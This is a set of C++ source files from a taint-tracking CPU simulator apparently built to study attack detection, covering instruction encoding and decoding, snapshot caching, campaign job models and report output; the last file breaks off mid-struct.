  kAnd, kOr, kXor, kNor,
  kSlt, kSltu,
  kMult, kMultu, kDiv, kDivu,
  kMfhi, kMflo, kMthi, kMtlo,
  kJr, kJalr,
  kSyscall, kBreak,
  // Kernel tainting primitives, modeling the paper's RT-register trick
  // (Section 4.4): a register whose value is 0 but whose taint bits are
  // all 1, added to input buffers by the kernel.  TAINTSET copies a value
  // with all taint bits set; TAINTCLR copies it with them cleared.  User
  // applications never need these — they exist for kernel-style guest
  // code and for testing the taint fabric from inside the guest.
  kTaintSet, kTaintClr,
  // I-type ALU
  kAddi, kAddiu, kSlti, kSltiu, kAndi, kOri, kXori, kLui,
  // loads / stores
  kLb, kLh, kLw, kLbu, kLhu,
  kSb, kSh, kSw,
  // branches
  kBeq, kBne, kBlez, kBgtz, kBltz, kBgez, kBltzal, kBgezal,
  // jumps
  kJ, kJal,
};

/// Instruction format, used by the encoder and the disassembler.
enum class Format : uint8_t { kR, kI, kJ };

/// Broad class used by the taint-propagation unit (Table 1 of the paper)
/// and by the pipeline detectors.
enum class OpClass : uint8_t {
  kAlu,        // default two-source OR-merge propagation
  kShift,      // adjacent-byte smear rule
  kLogicAnd,   // untaint bytes AND-ed with untainted zero
  kLogicXor,   // XOR r,r,r zero idiom
  kCompare,    // untaints its operands (SLT family and all branches)
  kLoad, kStore,
  kBranch,     // pc-relative, never a tainted target
  kJump,       // J/JAL: immediate target
  kJumpReg,    // JR/JALR: register target -> control-transfer detector
  kSyscall,
  kOther,
};

/// Returns the taint/detection class of an operation.
OpClass op_class(Op op);

/// Returns the mnemonic ("addu", "lw", ...).
std::string_view mnemonic(Op op);

/// Looks an operation up by mnemonic; nullopt when unknown.
std::optional<Op> op_from_mnemonic(std::string_view mnemonic);

/// Instruction format of an operation.
Format op_format(Op op);

/// A decoded instruction.  Fields not used by the format are zero.
struct Instruction {
  Op op = Op::kInvalid;
  uint8_t rs = 0;
  uint8_t rt = 0;
  uint8_t rd = 0;
  uint8_t shamt = 0;
  int32_t imm = 0;       // sign- or zero-extended per op semantics
  uint32_t target = 0;   // absolute byte address for J/JAL

  bool operator==(const Instruction&) const = default;

  bool is_load() const {
    auto c = op_class(op);
    return c == OpClass::kLoad;
  }
  bool is_store() const { return op_class(op) == OpClass::kStore; }
  bool is_mem() const { return is_load() || is_store(); }
  bool is_jump_reg() const { return op_class(op) == OpClass::kJumpReg; }
};

/// Encodes into the 32-bit binary form.  Asserts on malformed fields.
uint32_t encode(const Instruction& inst);

/// Decodes a 32-bit word.  Unknown encodings yield Op::kInvalid.
Instruction decode(uint32_t word);

/// Renders "opcode operands" text, e.g. "sw $21,0($3)".  `pc` is used to
/// print branch targets as absolute addresses.
std::string disassemble(const Instruction& inst, uint32_t pc = 0);

/// Memory-map constants shared by the loader, the OS layer and guest code.
/// The layout mirrors the classic SimpleScalar/MIPS user-space map that the
/// paper's alert addresses come from (text ~0x00400000, globals ~0x10000000,
/// stack just under 0x7fffc000).
namespace layout {
inline constexpr uint32_t kTextBase = 0x00400000;
inline constexpr uint32_t kDataBase = 0x10000000;
inline constexpr uint32_t kStackTop = 0x7fffc000;   // initial $sp
inline constexpr uint32_t kStackLimit = 0x7fe00000; // lowest legal stack byte
inline constexpr uint32_t kArgBase = 0x7fffc000;    // argv/env block above sp
}  // namespace layout

}  // namespace ptaint::isa
