// Binary encoding of PTA-32 instructions, following the classic MIPS-I
// opcode/funct assignments so that encodings round-trip and tools stay
// recognisable next to SimpleScalar disassembly.
#include <array>
#include <cassert>

#include "isa/isa.hpp"

namespace ptaint::isa {
namespace {

// Primary opcodes (bits 31..26).
enum : uint32_t {
  kOpcSpecial = 0x00,
  kOpcRegimm = 0x01,
  kOpcJ = 0x02,
  kOpcJal = 0x03,
  kOpcBeq = 0x04,
  kOpcBne = 0x05,
  kOpcBlez = 0x06,
  kOpcBgtz = 0x07,
  kOpcAddi = 0x08,
  kOpcAddiu = 0x09,
  kOpcSlti = 0x0a,
  kOpcSltiu = 0x0b,
  kOpcAndi = 0x0c,
  kOpcOri = 0x0d,
  kOpcXori = 0x0e,
  kOpcLui = 0x0f,
  kOpcLb = 0x20,
  kOpcLh = 0x21,
  kOpcLw = 0x23,
  kOpcLbu = 0x24,
  kOpcLhu = 0x25,
  kOpcSb = 0x28,
  kOpcSh = 0x29,
  kOpcSw = 0x2b,
};

// SPECIAL funct codes (bits 5..0).
enum : uint32_t {
  kFnSll = 0x00, kFnSrl = 0x02, kFnSra = 0x03,
  kFnSllv = 0x04, kFnSrlv = 0x06, kFnSrav = 0x07,
  kFnJr = 0x08, kFnJalr = 0x09,
  kFnSyscall = 0x0c, kFnBreak = 0x0d,
  kFnMfhi = 0x10, kFnMthi = 0x11, kFnMflo = 0x12, kFnMtlo = 0x13,
  kFnMult = 0x18, kFnMultu = 0x19, kFnDiv = 0x1a, kFnDivu = 0x1b,
  kFnTaintSet = 0x1c, kFnTaintClr = 0x1d,  // unused MIPS-I slots
  kFnAdd = 0x20, kFnAddu = 0x21, kFnSub = 0x22, kFnSubu = 0x23,
  kFnAnd = 0x24, kFnOr = 0x25, kFnXor = 0x26, kFnNor = 0x27,
  kFnSlt = 0x2a, kFnSltu = 0x2b,
};

// REGIMM rt selectors.
enum : uint32_t {
  kRtBltz = 0x00, kRtBgez = 0x01, kRtBltzal = 0x10, kRtBgezal = 0x11,
};

struct Enc {
  Op op;
  uint32_t opcode;   // primary opcode
  uint32_t funct;    // SPECIAL funct or REGIMM rt selector
};

constexpr Enc kEncTable[] = {
    {Op::kSll, kOpcSpecial, kFnSll},     {Op::kSrl, kOpcSpecial, kFnSrl},
    {Op::kSra, kOpcSpecial, kFnSra},     {Op::kSllv, kOpcSpecial, kFnSllv},
    {Op::kSrlv, kOpcSpecial, kFnSrlv},   {Op::kSrav, kOpcSpecial, kFnSrav},
    {Op::kJr, kOpcSpecial, kFnJr},       {Op::kJalr, kOpcSpecial, kFnJalr},
    {Op::kSyscall, kOpcSpecial, kFnSyscall},
    {Op::kBreak, kOpcSpecial, kFnBreak},
    {Op::kTaintSet, kOpcSpecial, kFnTaintSet},
    {Op::kTaintClr, kOpcSpecial, kFnTaintClr},
    {Op::kMfhi, kOpcSpecial, kFnMfhi},   {Op::kMthi, kOpcSpecial, kFnMthi},
    {Op::kMflo, kOpcSpecial, kFnMflo},   {Op::kMtlo, kOpcSpecial, kFnMtlo},
    {Op::kMult, kOpcSpecial, kFnMult},   {Op::kMultu, kOpcSpecial, kFnMultu},
    {Op::kDiv, kOpcSpecial, kFnDiv},     {Op::kDivu, kOpcSpecial, kFnDivu},
    {Op::kAdd, kOpcSpecial, kFnAdd},     {Op::kAddu, kOpcSpecial, kFnAddu},
    {Op::kSub, kOpcSpecial, kFnSub},     {Op::kSubu, kOpcSpecial, kFnSubu},
    {Op::kAnd, kOpcSpecial, kFnAnd},     {Op::kOr, kOpcSpecial, kFnOr},
    {Op::kXor, kOpcSpecial, kFnXor},     {Op::kNor, kOpcSpecial, kFnNor},
    {Op::kSlt, kOpcSpecial, kFnSlt},     {Op::kSltu, kOpcSpecial, kFnSltu},
    {Op::kBltz, kOpcRegimm, kRtBltz},    {Op::kBgez, kOpcRegimm, kRtBgez},
    {Op::kBltzal, kOpcRegimm, kRtBltzal},
    {Op::kBgezal, kOpcRegimm, kRtBgezal},
    {Op::kJ, kOpcJ, 0},                  {Op::kJal, kOpcJal, 0},
    {Op::kBeq, kOpcBeq, 0},              {Op::kBne, kOpcBne, 0},
    {Op::kBlez, kOpcBlez, 0},            {Op::kBgtz, kOpcBgtz, 0},
    {Op::kAddi, kOpcAddi, 0},            {Op::kAddiu, kOpcAddiu, 0},
    {Op::kSlti, kOpcSlti, 0},            {Op::kSltiu, kOpcSltiu, 0},
    {Op::kAndi, kOpcAndi, 0},            {Op::kOri, kOpcOri, 0},
    {Op::kXori, kOpcXori, 0},            {Op::kLui, kOpcLui, 0},
    {Op::kLb, kOpcLb, 0},                {Op::kLh, kOpcLh, 0},
    {Op::kLw, kOpcLw, 0},                {Op::kLbu, kOpcLbu, 0},
    {Op::kLhu, kOpcLhu, 0},              {Op::kSb, kOpcSb, 0},
    {Op::kSh, kOpcSh, 0},                {Op::kSw, kOpcSw, 0},
};

// decode() runs once per text word on every Cfg construction — a hot path
// for the incremental analyzer, which rebuilds the Cfg per re-analysis.
// Direct-indexed tables derived from kEncTable at compile time replace the
// per-instruction linear scans.
struct DecodeTables {
  std::array<Op, 64> special{};  // funct -> Op
  std::array<Op, 64> primary{};  // opcode -> Op
  std::array<Op, 32> regimm{};   // rt selector -> Op
};

constexpr DecodeTables make_decode_tables() {
  DecodeTables t;
  for (auto& e : t.special) e = Op::kInvalid;
  for (auto& e : t.primary) e = Op::kInvalid;
  for (auto& e : t.regimm) e = Op::kInvalid;
  for (const Enc& e : kEncTable) {
    if (e.opcode == kOpcSpecial) t.special[e.funct] = e.op;
    else if (e.opcode == kOpcRegimm) t.regimm[e.funct] = e.op;
    else t.primary[e.opcode] = e.op;
  }
  return t;
}

constexpr DecodeTables kDecode = make_decode_tables();

const Enc* find_enc(Op op) {
  for (const auto& e : kEncTable) {
    if (e.op == op) return &e;
  }
  return nullptr;
}

Op special_op(uint32_t funct) { return kDecode.special[funct & 0x3f]; }

Op regimm_op(uint32_t rt) { return kDecode.regimm[rt & 0x1f]; }

Op primary_op(uint32_t opcode) { return kDecode.primary[opcode & 0x3f]; }

}  // namespace

uint32_t encode(const Instruction& inst) {
  const Enc* e = find_enc(inst.op);
  assert(e != nullptr && "cannot encode an invalid instruction");
  const uint32_t rs = inst.rs & 0x1f, rt = inst.rt & 0x1f, rd = inst.rd & 0x1f;
  switch (op_format(inst.op)) {
    case Format::kR:
      return (kOpcSpecial << 26) | (rs << 21) | (rt << 16) | (rd << 11) |
             ((inst.shamt & 0x1f) << 6) | e->funct;
    case Format::kI: {
      uint32_t rt_field = rt;
      if (e->opcode == kOpcRegimm) rt_field = e->funct;  // selector in rt
      return (e->opcode << 26) | (rs << 21) | (rt_field << 16) |
             (static_cast<uint32_t>(inst.imm) & 0xffff);
    }
    case Format::kJ:
      return (e->opcode << 26) | ((inst.target >> 2) & 0x03ffffff);
  }
  return 0;
}

Instruction decode(uint32_t word) {
  Instruction inst;
  const uint32_t opcode = word >> 26;
  inst.rs = static_cast<uint8_t>((word >> 21) & 0x1f);
  inst.rt = static_cast<uint8_t>((word >> 16) & 0x1f);
  inst.rd = static_cast<uint8_t>((word >> 11) & 0x1f);
  inst.shamt = static_cast<uint8_t>((word >> 6) & 0x1f);

  if (opcode == kOpcSpecial) {
    inst.op = special_op(word & 0x3f);
    return inst;
  }
  if (opcode == kOpcRegimm) {
    inst.op = regimm_op(inst.rt);
    inst.rt = inst.rd = inst.shamt = 0;
    inst.imm = static_cast<int16_t>(word & 0xffff);
    return inst;
  }
  inst.op = primary_op(opcode);
  if (inst.op == Op::kInvalid) return inst;
  if (op_format(inst.op) == Format::kJ) {
    inst.rs = inst.rt = inst.rd = inst.shamt = 0;
    inst.target = (word & 0x03ffffff) << 2;
    return inst;
  }
  // I-format.  ANDI/ORI/XORI/LUI are zero-extended, the rest sign-extended.
  inst.rd = inst.shamt = 0;
  const uint32_t raw = word & 0xffff;
  switch (inst.op) {
    case Op::kAndi:
    case Op::kOri:
    case Op::kXori:
    case Op::kLui:
      inst.imm = static_cast<int32_t>(raw);
      break;
    default:
      inst.imm = static_cast<int16_t>(raw);
      break;
  }
  return inst;
}

}  // namespace ptaint::isa
