#include "campaign/report.hpp"

#include <cstdio>
#include <map>
#include <sstream>

namespace ptaint::campaign {
namespace {

std::string stop_name(cpu::StopReason stop) {
  switch (stop) {
    case cpu::StopReason::kRunning: return "running";
    case cpu::StopReason::kExit: return "exit";
    case cpu::StopReason::kSecurityAlert: return "security-alert";
    case cpu::StopReason::kFault: return "fault";
    case cpu::StopReason::kInstLimit: return "inst-limit";
    case cpu::StopReason::kBreak: return "break";
  }
  return "?";
}

std::string ms_fixed(double ms) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.3f", ms);
  return buf;
}

}  // namespace

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (unsigned char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (c < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += static_cast<char>(c);
        }
    }
  }
  return out;
}

std::string csv_escape(const std::string& s) {
  if (s.find_first_of(",\"\n\r") == std::string::npos) return s;
  std::string out = "\"";
  for (char c : s) {
    if (c == '"') out += "\"\"";
    else out += c;
  }
  out += "\"";
  return out;
}

std::string to_json(const std::vector<JobResult>& results) {
  return to_json(results, ReportOptions{});
}

std::string to_json_row(const JobResult& r, const ReportOptions& opts) {
  std::ostringstream ss;
  ss << "{\"index\": " << r.index                                     //
     << ", \"app\": \"" << json_escape(r.app) << "\""                 //
     << ", \"payload\": \"" << json_escape(r.payload) << "\""         //
     << ", \"policy\": \"" << json_escape(r.policy) << "\""           //
     << ", \"status\": \"" << to_string(r.status) << "\""             //
     << ", \"verdict\": \"" << json_escape(r.verdict) << "\""         //
     << ", \"detail\": \"" << json_escape(r.detail) << "\""           //
     << ", \"stop\": \"" << stop_name(r.report.stop) << "\""          //
     << ", \"exit_status\": " << r.report.exit_status                 //
     << ", \"alert\": \""
     << json_escape(r.report.alert ? r.report.alert_line() : "") << "\""
     << ", \"alert_function\": \"" << json_escape(r.report.alert_function)
     << "\""                                                          //
     << ", \"instructions\": " << r.report.cpu_stats.instructions     //
     << ", \"tainted_memory_bytes\": " << r.report.tainted_memory_bytes
     << ", \"attempts\": " << r.attempts                              //
     << ", \"error\": \"" << json_escape(r.error) << "\"";
  if (opts.with_timing) {
    ss << ", \"wall_ms\": " << ms_fixed(r.wall_ms)          //
       << ", \"build_ms\": " << ms_fixed(r.build_ms)        //
       << ", \"restore_ms\": " << ms_fixed(r.restore_ms)    //
       << ", \"run_ms\": " << ms_fixed(r.run_ms)            //
       << ", \"judge_ms\": " << ms_fixed(r.judge_ms)        //
       << ", \"dirty_pages\": " << r.dirty_pages            //
       << ", \"shared_pages\": " << r.shared_pages;
  }
  ss << "}";
  return ss.str();
}

std::string to_json(const std::vector<JobResult>& results,
                    const ReportOptions& opts) {
  std::ostringstream ss;
  ss << "[\n";
  for (size_t i = 0; i < results.size(); ++i) {
    ss << "  " << to_json_row(results[i], opts)
       << (i + 1 < results.size() ? ",\n" : "\n");
  }
  ss << "]\n";
  return ss.str();
}

int exit_code_for(const std::vector<JobResult>& results) {
  bool timed_out = false;
  for (const JobResult& r : results) {
    if (r.status == JobStatus::kHarnessError) return 2;
    if (r.status == JobStatus::kTimeout) timed_out = true;
  }
  return timed_out ? 3 : 0;
}

std::string to_csv(const std::vector<JobResult>& results) {
  return to_csv(results, ReportOptions{});
}

std::string to_csv(const std::vector<JobResult>& results,
                   const ReportOptions& opts) {
  std::ostringstream ss;
  ss << "index,app,payload,policy,status,verdict,detail,stop,exit_status,"
        "alert,alert_function,instructions,tainted_memory_bytes,attempts,"
        "error";
  if (opts.with_timing) {
    ss << ",wall_ms,build_ms,restore_ms,run_ms,judge_ms,dirty_pages,"
          "shared_pages";
  }
  ss << "\n";
  for (const JobResult& r : results) {
    ss << r.index << "," << csv_escape(r.app) << "," << csv_escape(r.payload)
       << "," << csv_escape(r.policy) << "," << to_string(r.status) << ","
       << csv_escape(r.verdict) << "," << csv_escape(r.detail) << ","
       << stop_name(r.report.stop) << "," << r.report.exit_status << ","
       << csv_escape(r.report.alert ? r.report.alert_line() : "") << ","
       << csv_escape(r.report.alert_function) << ","
       << r.report.cpu_stats.instructions << ","
       << r.report.tainted_memory_bytes << "," << r.attempts << ","
       << csv_escape(r.error);
    if (opts.with_timing) {
      ss << "," << ms_fixed(r.wall_ms) << "," << ms_fixed(r.build_ms) << ","
         << ms_fixed(r.restore_ms) << "," << ms_fixed(r.run_ms) << ","
         << ms_fixed(r.judge_ms) << "," << r.dirty_pages << ","
         << r.shared_pages;
    }
    ss << "\n";
  }
  return ss.str();
}

std::string console_summary(const std::vector<JobResult>& results) {
  std::ostringstream ss;
  // Per-policy verdict tally, policies in first-appearance (matrix) order.
  std::vector<std::string> policy_order;
  std::map<std::string, std::map<std::string, int>> tally;
  for (const JobResult& r : results) {
    if (!tally.count(r.policy)) policy_order.push_back(r.policy);
    std::string verdict = r.verdict.empty() ? std::string("(none)") : r.verdict;
    ++tally[r.policy][verdict];
  }
  ss << "campaign: " << results.size() << " jobs\n";
  for (const std::string& policy : policy_order) {
    ss << "  " << policy << ":";
    for (const auto& [verdict, n] : tally[policy]) {
      ss << "  " << verdict << "=" << n;
    }
    ss << "\n";
  }
  // Rows that need eyes.
  for (const JobResult& r : results) {
    if (r.status == JobStatus::kHarnessError || r.status == JobStatus::kTimeout) {
      ss << "  !! [" << r.index << "] " << r.app << " / " << r.payload << " / "
         << r.policy << ": " << to_string(r.status)
         << (r.error.empty() ? "" : " — " + r.error) << "\n";
    }
  }
  return ss.str();
}

}  // namespace ptaint::campaign
