// Keyed cache of machine snapshots shared across campaign jobs.
//
// The point of the campaign engine: boot a guest once (assemble, load, arm
// inputs, optionally run to a post-init point), snapshot it, and let every
// job that shares the boot fork from the snapshot instead of re-assembling.
// Thread-safe: the first job to ask for a key builds the snapshot while
// other workers asking for the same key wait; distinct keys build
// concurrently.
//
// With a store attached (StoreOptions::enabled — PTAINT_SNAPSHOT_STORE=1 /
// PTAINT_SNAPSHOT_DIR=<dir> in the default constructor), the cache is
// re-platformed on the content-addressed mem::PageStore (DESIGN.md §13):
// every built snapshot is dehydrated — its pages interned for cross-key
// dedup, the rest serialized to a meta blob — and only the most recently
// used `hot_snapshots` entries stay hydrated.  A get() for a dehydrated
// entry rehydrates from store pages (counted as a hit: nothing is rebuilt).
// With a disk tier, snapshot blobs are written behind, and a restarted
// process finds them at construction and serves warm keys without
// rebuilding.  Pipeline-bearing snapshots are not dehydratable and simply
// stay hydrated forever, exactly as without a store.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <unordered_map>

#include "core/machine.hpp"
#include "core/snapshot_io.hpp"
#include "mem/page_store.hpp"

namespace ptaint::campaign {

/// Store attachment for a SnapshotCache.
struct StoreOptions {
  bool enabled = false;
  /// Hydrated snapshots kept per cache; least-recently-used entries beyond
  /// this are dropped to their dehydrated (store-page) form.
  size_t hot_snapshots = 32;
  /// Materialized-page budget of the underlying PageStore.
  size_t hot_pages = 1u << 16;
  /// Disk-tier directory (empty = memory-only store).  One live cache per
  /// directory: two processes sharing a directory concurrently is
  /// unsupported (the write-behind files would race).
  std::string disk_dir;

  /// Environment resolution: PTAINT_SNAPSHOT_STORE (any value other than
  /// empty or "0") enables a memory-only store; PTAINT_SNAPSHOT_DIR=<dir>
  /// enables the store with a disk tier; PTAINT_SNAPSHOT_HOT=<n> overrides
  /// hot_snapshots.  Used by the default SnapshotCache constructor, so the
  /// whole test/bench/tool surface can be flipped store-backed externally.
  static StoreOptions from_env();
};

class SnapshotCache {
 public:
  using Builder = std::function<core::MachineSnapshot()>;

  /// Store attachment resolved from the environment (see StoreOptions).
  SnapshotCache();
  explicit SnapshotCache(const StoreOptions& options);
  ~SnapshotCache();

  /// Returns the snapshot for `key`, invoking `build` exactly once per key
  /// (even under concurrent callers).  If the builder throws, the error
  /// propagates to every caller of that key and nothing is cached, so a
  /// retried job re-attempts the build.  With a store, a dehydrated entry
  /// is rehydrated from store pages instead of rebuilt (still a hit).
  std::shared_ptr<const core::MachineSnapshot> get(const std::string& key,
                                                   const Builder& build);

  struct Stats {
    uint64_t builds = 0;  // snapshots actually built
    uint64_t hits = 0;    // requests served from the cache
    uint64_t misses = 0;  // requests that had to build (≥ builds: a
                          // throwing builder is a miss but not a build)
    double build_ms = 0.0;        // wall time spent inside builders
    uint64_t snapshot_pages = 0;  // mapped pages across hydrated snapshots
    uint64_t shared_pages = 0;    // of those, pages currently shared (COW)
    // --- store-backed operation (zeros without a store) ---
    uint64_t dehydrations = 0;    // hydrated entries dropped to store form
    uint64_t rehydrations = 0;    // hits served by hydrating store pages
    uint64_t disk_rehydrations = 0;  // entries revived from a prior
                                     // process's disk tier (once per entry)
    uint64_t stored_snapshots = 0;   // entries with a dehydrated form
    uint64_t hydrated_snapshots = 0;  // entries currently materialized
    double hydrate_ms = 0.0;      // wall time spent rehydrating
    bool store_enabled = false;
    mem::PageStore::Stats store;  // page-level dedup/compression/disk
  };
  /// builds/hits/misses/…_ms and the (re|de)hydration counters are running
  /// counters; page counts and store occupancies are recomputed at call
  /// time (shared_pages is a point-in-time reading that depends on which
  /// forks are alive).  Hit *rate* is hits / (hits + misses), computed by
  /// display code.  Programmatic mirror of the --time console line: the
  /// serve daemon's `status` reply and the tests read these directly
  /// instead of parsing stderr.
  Stats stats() const;

  /// The attached page store (nullptr without one) — bench/test hook for
  /// drop_caches()/flush()-style tier forcing.
  mem::PageStore* store() { return store_.get(); }

  /// Drops every hydrated snapshot that has a dehydrated form, then evicts
  /// cold store pages — forces the next get() of each key through the
  /// store path.  Bench/test hook; no-op without a store.
  void drop_hydrated();

  /// Blocks until the store's write-behind queue is durable.  Call before
  /// a planned process exit so a restart sees every warm snapshot.
  void flush_disk();

 private:
  struct Entry {
    std::mutex build_mutex;
    // snapshot and stored are written under mutex_ (stats() and the LRU
    // dehydrator walk entries without per-entry locks); snapshot is only
    // *set* while build_mutex is also held, so per-key callers serialize.
    std::shared_ptr<const core::MachineSnapshot> snapshot;
    std::optional<core::StoredSnapshot> stored;
    uint64_t last_touch = 0;
    bool from_disk = false;     // revived from a prior process's blob
    bool disk_counted = false;  // disk_rehydrations tallied for this entry
  };

  void load_disk_blobs();
  /// Requires mutex_.  Drops LRU hydrated entries beyond hot_snapshots.
  void dehydrate_lru_locked();

  StoreOptions options_;
  std::unique_ptr<mem::PageStore> store_;  // null when !options_.enabled

  mutable std::mutex mutex_;  // guards entries_ map, stats_, tick_
  std::unordered_map<std::string, std::shared_ptr<Entry>> entries_;
  uint64_t tick_ = 0;
  Stats stats_;
};

}  // namespace ptaint::campaign
