// Keyed cache of machine snapshots shared across campaign jobs.
//
// The point of the campaign engine: boot a guest once (assemble, load, arm
// inputs, optionally run to a post-init point), snapshot it, and let every
// job that shares the boot fork from the snapshot instead of re-assembling.
// Thread-safe: the first job to ask for a key builds the snapshot while
// other workers asking for the same key wait; distinct keys build
// concurrently.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <unordered_map>

#include "core/machine.hpp"

namespace ptaint::campaign {

class SnapshotCache {
 public:
  using Builder = std::function<core::MachineSnapshot()>;

  /// Returns the snapshot for `key`, invoking `build` exactly once per key
  /// (even under concurrent callers).  If the builder throws, the error
  /// propagates to every caller of that key and nothing is cached, so a
  /// retried job re-attempts the build.
  std::shared_ptr<const core::MachineSnapshot> get(const std::string& key,
                                                   const Builder& build);

  struct Stats {
    uint64_t builds = 0;  // snapshots actually built
    uint64_t hits = 0;    // requests served from the cache
    uint64_t misses = 0;  // requests that had to build (≥ builds: a
                          // throwing builder is a miss but not a build)
    double build_ms = 0.0;        // wall time spent inside builders
    uint64_t snapshot_pages = 0;  // mapped pages across built snapshots
    uint64_t shared_pages = 0;    // of those, pages currently shared (COW)
  };
  /// builds/hits/misses/build_ms are running counters; the page counts are
  /// recomputed from the cached snapshots at call time (shared_pages is a
  /// point-in-time reading that depends on which forks are alive).
  /// Programmatic mirror of the --time console line: the serve daemon's
  /// `status` reply and the tests read these directly instead of parsing
  /// stderr.
  Stats stats() const;

 private:
  struct Entry {
    std::mutex build_mutex;
    std::shared_ptr<const core::MachineSnapshot> snapshot;  // set once
  };

  mutable std::mutex mutex_;  // guards entries_ map and stats_
  std::unordered_map<std::string, std::shared_ptr<Entry>> entries_;
  Stats stats_;
};

}  // namespace ptaint::campaign
