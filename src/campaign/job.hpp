// Campaign job model.
//
// A campaign expands an `app × payload × policy` experiment matrix into
// jobs.  Each job owns the recipe for building one armed Machine (usually
// by restoring a shared post-boot snapshot) and for judging the finished
// run.  Jobs carry stable matrix coordinates so the aggregation layer can
// merge results in matrix order no matter which worker finished first.
//
// The simulator stays single-threaded per Machine instance: a job's
// machine is built, driven and classified entirely on one worker thread,
// which is what keeps detection semantics identical to serial runs (see
// docs/CAMPAIGN.md).
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <memory>
#include <string>

#include "core/machine.hpp"

namespace ptaint::campaign {

/// How a job ended, from the harness's point of view.  Guest-side outcomes
/// (detection, compromise, crash) live in the report/verdict — a crashing
/// *guest* is kGuestFault and never takes the harness down.
enum class JobStatus : uint8_t {
  kOk,               // guest stopped by itself (exit or security alert)
  kGuestFault,       // guest faulted (bad memory access, invalid instr, ...)
  kBudgetExhausted,  // per-job instruction budget ran out
  kTimeout,          // per-job wall-clock deadline passed
  kHarnessError,     // job threw (assembly error, bad config, ...)
};

const char* to_string(JobStatus status);

struct JobResult;

/// One cell of the experiment matrix.
struct Job {
  // Stable matrix coordinates (labels, not indices, so reports read well).
  std::string app;
  std::string payload;
  std::string policy;

  /// Builds and arms the machine.  Runs on a worker thread; may restore a
  /// shared snapshot.  Throwing marks the job kHarnessError (one retry).
  std::function<std::unique_ptr<core::Machine>()> make;

  /// Fills verdict/detail from the finished run.  Optional; runs on the
  /// same worker thread as make().
  std::function<void(core::Machine&, const core::RunReport&, JobResult&)>
      classify;

  /// Per-job instruction budget, enforced by the executor in slices (the
  /// report then shows kInstLimit exactly like a serial Machine::run).
  uint64_t max_instructions = 50'000'000;

  /// Per-job wall-clock deadline.
  std::chrono::milliseconds timeout{120'000};
};

/// One merged result cell, in stable matrix order.
struct JobResult {
  size_t index = 0;  // position in the expanded matrix
  std::string app;
  std::string payload;
  std::string policy;

  JobStatus status = JobStatus::kHarnessError;
  int attempts = 0;       // 1 normally; 2 after the bounded retry
  double wall_ms = 0.0;   // of the successful attempt

  core::RunReport report;
  std::string verdict;  // classifier's one-word judgement (e.g. DETECTED)
  std::string detail;   // classifier's evidence (e.g. the alert line)
  std::string error;    // harness error message, when status says so
};

}  // namespace ptaint::campaign
