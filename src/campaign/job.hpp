// Campaign job model.
//
// A campaign expands an `app × payload × policy` experiment matrix into
// jobs.  Each job owns the recipe for building one armed Machine (usually
// by restoring a shared post-boot snapshot) and for judging the finished
// run.  Jobs carry stable matrix coordinates so the aggregation layer can
// merge results in matrix order no matter which worker finished first.
//
// The simulator stays single-threaded per Machine instance: a job's
// machine is built, driven and classified entirely on one worker thread,
// which is what keeps detection semantics identical to serial runs (see
// docs/CAMPAIGN.md).
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <memory>
#include <string>

#include "core/machine.hpp"

namespace ptaint::campaign {

/// How a job ended, from the harness's point of view.  Guest-side outcomes
/// (detection, compromise, crash) live in the report/verdict — a crashing
/// *guest* is kGuestFault and never takes the harness down.
enum class JobStatus : uint8_t {
  kOk,               // guest stopped by itself (exit or security alert)
  kGuestFault,       // guest faulted (bad memory access, invalid instr, ...)
  kBudgetExhausted,  // per-job instruction budget ran out
  kTimeout,          // per-job wall-clock deadline passed
  kHarnessError,     // job threw (assembly error, bad config, ...)
};

const char* to_string(JobStatus status);

struct JobResult;

/// One cell of the experiment matrix.
struct Job {
  // Stable matrix coordinates (labels, not indices, so reports read well).
  std::string app;
  std::string payload;
  std::string policy;

  /// Builds and arms the machine.  Runs on a worker thread; may restore a
  /// shared snapshot.  Throwing marks the job kHarnessError (one retry).
  /// Legacy path — jobs that set the three fork fields below instead let
  /// the executor reuse one machine per worker with COW delta restore.
  std::function<std::unique_ptr<core::Machine>()> make;

  /// Fork path (preferred).  `get_snapshot` resolves (building on first
  /// use) the shared post-boot snapshot; `make_config` describes the
  /// machine that runs it (policy, budget, elision, engine); `machine_key`
  /// names that config — and deliberately not the snapshot, since a kept
  /// machine can restore any snapshot — so a worker keeps one machine per
  /// key and serves repeat jobs with a cheap COW (or delta) restore
  /// instead of a rebuild.  All three must be set for the path to engage.
  std::string machine_key;
  std::function<core::MachineConfig()> make_config;
  std::function<std::shared_ptr<const core::MachineSnapshot>()> get_snapshot;

  /// Fills verdict/detail from the finished run.  Optional; runs on the
  /// same worker thread as make().
  std::function<void(core::Machine&, const core::RunReport&, JobResult&)>
      classify;

  /// Per-job instruction budget, enforced by the executor in slices (the
  /// report then shows kInstLimit exactly like a serial Machine::run).
  uint64_t max_instructions = 50'000'000;

  /// Per-job wall-clock deadline.
  std::chrono::milliseconds timeout{120'000};

  /// Treat a wall-clock timeout like a spurious harness failure and retry
  /// it (bounded by the worker's max_retries).  Off for batch campaigns —
  /// a timeout there is a result worth reporting — but the serve daemon
  /// turns it on, where a shard briefly descheduled under load would
  /// otherwise fail a job that retries fine.  Each attempt gets the full
  /// `timeout` budget and the result's timings describe the successful
  /// attempt only.
  bool retry_on_timeout = false;
};

/// One merged result cell, in stable matrix order.
struct JobResult {
  size_t index = 0;  // position in the expanded matrix
  std::string app;
  std::string payload;
  std::string policy;

  JobStatus status = JobStatus::kHarnessError;
  int attempts = 0;       // 1 normally; 2 after the bounded retry
  double wall_ms = 0.0;   // of the successful attempt

  // Per-phase wall time of the successful attempt (fork path; the legacy
  // make() path books machine construction under build_ms).  Timings are
  // host-dependent and therefore excluded from the deterministic report
  // emitters unless explicitly requested (ReportOptions::with_timing).
  double build_ms = 0.0;    // snapshot resolution (cold cache = guest boot)
  double restore_ms = 0.0;  // machine construction + snapshot restore
